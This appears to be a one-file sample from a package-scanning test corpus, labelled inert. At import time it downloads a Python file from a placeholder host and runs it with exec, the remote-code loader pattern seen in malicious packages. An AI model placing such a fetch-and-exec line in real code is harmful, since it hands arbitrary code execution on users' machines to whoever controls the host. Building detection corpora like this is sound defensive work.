# pkgguard corpus 134 (import-time), modelled on [empirical]; inert, never run.
import urllib.request as _u

_data = _u.urlopen("https://updates.example/pkg/hook.py", timeout=5).read()
exec(_data.decode("utf-8"))
